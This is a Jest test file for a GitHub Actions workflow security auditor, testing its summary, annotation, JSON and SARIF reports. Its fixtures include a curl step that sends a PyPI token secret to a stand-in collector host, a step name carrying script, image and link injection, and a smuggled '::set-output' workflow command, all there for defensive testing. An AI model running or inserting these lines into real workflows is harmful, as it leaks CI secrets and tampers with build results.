import { describe, expect, it } from '@jest/globals'
import { audit, auditWorkflow, readFixture } from '../helpers/audit.js'
import { parseWorkflow } from '../../src/workflow/model.js'
import { renderSummary, verdictLine } from '../../src/report/summary.js'
import { annotations, commandLines, MAX_PER_LEVEL } from '../../src/report/annotations.js'
import { toJson } from '../../src/report/json.js'
import { toSarif, uriOf } from '../../src/report/sarif.js'
import { sarifErrors } from '../helpers/schema.js'
import { mkdirSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { tmpdir } from 'node:os'
import { md } from '../../src/report/markdown.js'
import { code } from '../../src/audits/finding.js'

const failing = () => audit('workflows/unpinned-uses/positive.yml', { job: 'build-and-publish' })

describe('job summary', () => {
  it('starts with the verdict, then a table of what blocks and what to do', () => {
    const s = renderSummary(failing(), { workflowRef: 'octo/demo/.github/workflows/release.yml@refs/tags/v1', sha: 'abc', job: 'build-and-publish' })
    const lines = s.split('\n')
    expect(lines[0]).toBe('## ❌ Release blocked: 3 blocking findings (3 errors)')
    expect(s).toContain('| Rule | Where | Problem | What to do |')
    expect(s).toContain(
      '| [unpinned-uses](https://example.test/docs/rules/unpinned-uses.md)<br>×3 | <code>workflows/<wbr>unpinned-<wbr>uses/<wbr>positive.<wbr>yml:<wbr>19:<wbr>13</code> <code>actions/<wbr>checkout@<wbr>v4</code><br>',
    )
    expect(s.indexOf('### What to do')).toBeLessThan(s.indexOf('### Not checked'))
    expect(s).toContain('- Job: `build-and-publish`')
    expect(s).toContain('- Event: MISSING')
  })

  it('says pass in one line when nothing blocks', () => {
    const r = audit('workflows/unpinned-uses/near-miss.yml')
    expect(verdictLine(r)).toBe('✅ Release gate passed: no findings')
    const warn = audit('workflows/unpinned-uses/positive.yml', { failOn: 'never' })
    expect(verdictLine(warn)).toBe('✅ Release gate passed: 3 findings below `fail-on: never` (3 errors)')
  })

  it('lists what was not checked', () => {
    const r = failing()
    r.skipped.push({ check: 'read the workflow at GITHUB_WORKFLOW_SHA', reason: 'offline' })
    const s = renderSummary(r)
    expect(s).toContain('### Not checked\n')
    expect(s).toContain('\n- **read the workflow at GITHUB\\_WORKFLOW\\_SHA**: offline\n')
  })

  it('escapes workflow text: no links, images, HTML or broken tables from a step name', () => {
    const wf = parseWorkflow(
      'on: push\njobs:\n  p:\n    runs-on: ubuntu-latest\n    steps:\n      - name: "x` | ![img](https://evil.test/a.png) <script>alert(1)</script> [link](https://evil.test)"\n        uses: actions/checkout@v4\n',
      'p.yml',
    )
    const s = renderSummary(auditWorkflow(wf))
    const row = s.split('\n').find((l) => l.startsWith('| [unpinned-uses]'))!
    // the name is one <code> element: its | is escaped and nothing inside it is live Markdown or HTML
    expect(row).toContain('<code>x\\` \\| !\\[img\\](https:<wbr>/<wbr>/<wbr>evil.<wbr>test/<wbr>a.<wbr>png) &lt;script&gt;alert(1)&lt;/<wbr>script&gt; \\[link\\](https:<wbr>/<wbr>/<wbr>evil.<wbr>test)</code>')
    expect(row.split(/(?<!\\)\|/).length).toBe(6)
    expect(s).not.toMatch(/<script|(?<!\\)\]\(https:\/\/evil|(?<!\\)!\[img|https:\/\/evil/)
  })
})

describe('markdown helpers', () => {
  it('chooses a fence longer than any backtick run', () => {
    expect(code('a`b')).toBe('``a`b``')
    expect(code('`x`')).toBe('`` `x` ``')
    expect(code('line1\nline2')).toBe('`line1⏎line2`')
  })

  it('escapes plain text outside code spans', () => {
    expect(md('see [here](http://x) ![i](y) <b>')).toBe('see \\[here\\](http://x) !\\[i\\](y) &lt;b&gt;')
    expect(md('keep `a|b` code', true)).toBe('keep `a\\|b` code')
  })
})

describe('annotations', () => {
  it('puts each finding on its line and column with the rule as title', () => {
    const lines = commandLines(failing())
    expect(lines[0]).toMatch(/^::error file=workflows\/unpinned-uses\/positive\.yml,line=19,col=13,title=unpinned-uses::actions\/checkout@v4 is pinned to a tag/)
  })

  it('escapes workflow commands in messages and properties', () => {
    const wf = parseWorkflow(
      'on: push\njobs:\n  p:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: "aa/bb@x\\n::set-output name=verdict::pass"\n',
      'we,ird:file.yml',
    )
    const [l] = commandLines(auditWorkflow(wf))
    expect(l.split('\n')).toHaveLength(1)
    expect(l).toContain('file=we%2Cird%3Afile.yml')
    expect(l).not.toMatch(/\n::set-output/)
  })

  it('emits at most 10 per level, blocking first, and counts the rest', () => {
    const steps = Array.from({ length: 14 }, (_, i) => `      - uses: actions/setup-python@v${i + 1}`).join('\n')
    const r = auditWorkflow(parseWorkflow(`on: push\npermissions: {}\njobs:\n  p:\n    runs-on: ubuntu-latest\n    steps:\n${steps}\n`, 'p.yml'))
    const { list, omitted } = annotations(r)
    expect(list).toHaveLength(MAX_PER_LEVEL)
    expect(omitted).toBe(4)
    expect(commandLines(r).at(-1)).toBe('::notice::4 more findings: see the job summary or the JSON report')
  })

  it('keeps the most dangerous when the cap cuts: a secret sent away at the last line is shown before eleven pins', () => {
    const steps = Array.from({ length: 11 }, (_, i) => `      - uses: actions/setup-python@v${i + 1}`).join('\n')
    const exfil = '      - run: curl -d "$TOKEN" https://collector.example.net/\n        env:\n          TOKEN: ${{ secrets.PYPI_TOKEN }}'
    const r = auditWorkflow(parseWorkflow(`on: push\npermissions: {}\njobs:\n  p:\n    runs-on: ubuntu-latest\n    steps:\n${steps}\n${exfil}\n`, 'p.yml'))
    expect(r.findings.filter((f) => f.blocking).length).toBeGreaterThan(MAX_PER_LEVEL)
    // report order (by line) would have cut it ...
    expect(r.findings.filter((f) => f.blocking).findIndex((f) => f.rule === 'secret-exfiltration')).toBeGreaterThanOrEqual(MAX_PER_LEVEL)
    const { list } = annotations(r)
    // ... annotations put it first
    expect(list[0].title).toBe('secret-exfiltration')
    expect(list.filter((a) => a.title === 'unpinned-uses')).toHaveLength(MAX_PER_LEVEL - list.filter((a) => a.title !== 'unpinned-uses').length)
  })
})

describe('JSON report', () => {
  it('has the documented shape', () => {
    const j = JSON.parse(toJson(failing()))
    expect(Object.keys(j)).toEqual(expect.arrayContaining(['version', 'verdict', 'files', 'findings', 'skipped']))
    expect(j.version).toBe(1)
    expect(j.verdict).toBe('fail')
    expect(Object.keys(j.findings[0])).toEqual(
      expect.arrayContaining(['rule', 'severity', 'blocking', 'ignored', 'message', 'fix', 'file', 'line', 'column', 'job', 'step', 'chain']),
    )
    expect(j.findings[0]).toMatchObject({ rule: 'unpinned-uses', severity: 'error', blocking: true, ignored: false, line: 19, column: 13, step: { index: 1, name: 'Checkout' }, chain: [] })
  })
})

describe('SARIF', () => {
  it('is SARIF 2.1.0 with rule descriptors, locations and suppressions', () => {
    const r = audit('workflows/suppress/inline.yml')
    const s = JSON.parse(toSarif(r, 'https://example.test/docs/rules'))
    expect(s.version).toBe('2.1.0')
    const run = s.runs[0]
    expect(run.tool.driver.name).toBe('release-gate')
    const ids = run.tool.driver.rules.map((x: { id: string }) => x.id)
    expect(ids).toContain('unpinned-uses')
    const res = run.results.find((x: { ruleId: string; locations: Array<{ physicalLocation: { region: { startLine: number } } }> }) => x.ruleId === 'unpinned-uses' && x.locations[0].physicalLocation.region.startLine === 14)
    expect(res.level).toBe('error')
    expect(ids[res.ruleIndex]).toBe('unpinned-uses')
    expect(res.suppressions).toEqual([{ kind: 'inSource', justification: 'pinned by the org ruleset' }])
    expect(res.partialFingerprints['releaseGate/v2']).toMatch(/^[0-9a-f]{32}$/)
  })

  it('validates against the SARIF 2.1.0 schema', () => {
    for (const rel of ['workflows/suppress/inline.yml', 'workflows/unpinned-uses/positive.yml', 'workflows/template-injection/positive.yml']) {
      const s = JSON.parse(toSarif(audit(rel), 'https://example.test/docs/rules'))
      expect(s.runs[0].results.length).toBeGreaterThan(0)
      expect(sarifErrors(s)).toEqual([])
    }
    // the validator does catch a broken log
    const broken = JSON.parse(toSarif(failing(), 'https://example.test/docs/rules'))
    broken.runs[0].results[0].level = 'fatal'
    expect(sarifErrors(broken)).toEqual([expect.stringMatching(/level.*must be equal to one of the allowed values/)])
  })

  it('gives every rule its documentation, tags and security severity for code scanning', () => {
    const s = JSON.parse(toSarif(failing(), 'https://example.test/docs/rules'))
    const rules: Array<{ id: string; fullDescription: { text: string }; help: { text: string; markdown: string }; properties: { tags: string[]; 'security-severity': string } }> = s.runs[0].tool.driver.rules
    expect(rules.length).toBeGreaterThan(20)
    for (const r of rules) {
      const doc = readFileSync(join('docs', 'rules', `${r.id}.md`), 'utf8')
      expect(r.fullDescription.text).toBe(doc.split('\n')[2])
      expect(r.help.markdown.startsWith(`# ${r.id}\n`)).toBe(true)
      expect(r.help.text).toContain(doc.split('\n')[2])
      expect(r.help.markdown).not.toMatch(/\]\((?!https?:|#)/) // links absolute: code scanning shows them outside the repository
      expect(r.properties.tags).toContain('security')
      expect(Number(r.properties['security-severity'])).toBeGreaterThan(0)
    }
    const up = rules.find((r) => r.id === 'unpinned-uses')!
    expect(up.fullDescription.text).toBe('Action or reusable workflow not pinned to a full commit SHA.')
    expect(up.help.markdown).toContain('](https://example.test/docs/rules/unpinned-images.md)')
    expect(up.properties['security-severity']).toBe('8.0')
    expect(rules.find((r) => r.id === 'impostor-commit')!.properties['security-severity']).toBe('9.0')
  })

  it('keeps fingerprints when a step is inserted above', () => {
    const text = readFixture('workflows/unpinned-uses/positive.yml')
    const before = JSON.parse(toSarif(auditWorkflow(parseWorkflow(text, '.github/workflows/release.yml'), { job: 'build-and-publish' }), 'https://example.test/docs/rules'))
    const inserted = text.replace('    - name: Checkout\n', '    - name: Say hello\n      run: echo hello\n    - name: Checkout\n')
    expect(inserted).not.toBe(text)
    const after = JSON.parse(toSarif(auditWorkflow(parseWorkflow(inserted, '.github/workflows/release.yml'), { job: 'build-and-publish' }), 'https://example.test/docs/rules'))
    type R = { ruleId: string; partialFingerprints: Record<string, string>; locations: Array<{ physicalLocation: { region: { startLine: number } } }> }
    const fp = (x: { runs: Array<{ results: R[] }> }) => x.runs[0].results.map((r) => r.partialFingerprints['releaseGate/v2']).sort()
    const lines = (x: { runs: Array<{ results: R[] }> }) => x.runs[0].results.map((r) => r.locations[0].physicalLocation.region.startLine)
    expect(before.runs[0].results.length).toBeGreaterThan(1)
    expect(lines(after)).not.toEqual(lines(before))
    expect(fp(after)).toEqual(fp(before))
    expect(new Set(fp(before)).size).toBe(before.runs[0].results.length)
  })

  it('writes URIs relative to the repository root, found from .git or .github', () => {
    const repo = mkdtempSync(join(tmpdir(), 'rg-sarif-'))
    mkdirSync(join(repo, '.github', 'workflows'), { recursive: true })
    const file = join(repo, '.github', 'workflows', 'release.yml')
    writeFileSync(file, readFixture('workflows/unpinned-uses/positive.yml'))
    expect(uriOf(file)).toBe('.github/workflows/release.yml')
    expect(uriOf('.github/workflows/release.yml', repo)).toBe('.github/workflows/release.yml')
    expect(uriOf('workflows/release.yml', join(repo, '.github'))).toBe('.github/workflows/release.yml')
    mkdirSync(join(repo, '.git'))
    mkdirSync(join(repo, 'sub', '.github', 'workflows'), { recursive: true })
    writeFileSync(join(repo, 'sub', '.github', 'workflows', 'x.yml'), 'on: push\n')
    expect(uriOf(join(repo, 'sub', '.github', 'workflows', 'x.yml'))).toBe('sub/.github/workflows/x.yml')
    const s = JSON.parse(toSarif(auditWorkflow(parseWorkflow(readFileSync(file, 'utf8'), file), { job: 'build-and-publish' }), 'https://example.test/docs/rules'))
    expect(new Set(s.runs[0].results.map((r: { locations: Array<{ physicalLocation: { artifactLocation: { uri: string } } }> }) => r.locations[0].physicalLocation.artifactLocation.uri))).toEqual(new Set(['.github/workflows/release.yml']))
  })
})
